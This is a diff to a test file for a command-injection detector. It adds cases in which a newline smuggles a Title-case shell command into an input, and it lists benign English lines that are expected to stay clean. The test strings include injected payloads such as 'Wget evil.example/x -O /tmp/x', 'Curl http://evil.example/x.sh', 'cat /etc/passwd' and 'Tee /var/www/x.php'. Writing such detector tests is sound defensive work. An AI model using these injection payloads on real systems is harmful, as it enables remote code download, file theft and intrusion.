@@ -1694,6 +1694,9 @@ describe('cmdi session 21 (rtc23): a line of text that opens with a Title-case c
   it.each(['x\nid', 'x\ncat /etc/passwd', 'x\ncat food', 'x\nsleep 5', 'x\nCat /etc/passwd', 'x\nPing -c 3 evil.example',
     'x\nCurl http://evil.example/x.sh', 'x\nCAT food', 'x%0a%43at food', 'x\\nCat /etc/passwd', 'x\nTee /var/www/x.php',
     'x\nPowershell -c whoami', 'x\r\nDATA\r\n', 'x\r\nMAIL FROM:<a@evil.example>', 'x\r\nTOP 1 10\r\n'])('%s is a command', expectCmdi);
+  // a dotted name after it is a host or a file, also after a Title-case word (a case-folding shell or file system runs it)
+  it.each(['x\nNslookup evil.example', 'x\nCat secret.txt', 'x\nWget evil.example/x -O /tmp/x', 'x\nHost evil.example'])('%s is a command', expectCmdi);
+  it.each(['Hi\nCat pictures. Thanks', 'Hi\nTouch base. Bye', 'Notes\nDate 5.5.2024'])('%s stays clean', expectNoCmdi);
 });
 
 describe('cmdi session 21 (rtc23): a Title-case English-word command alone before a separator or the end', () => {
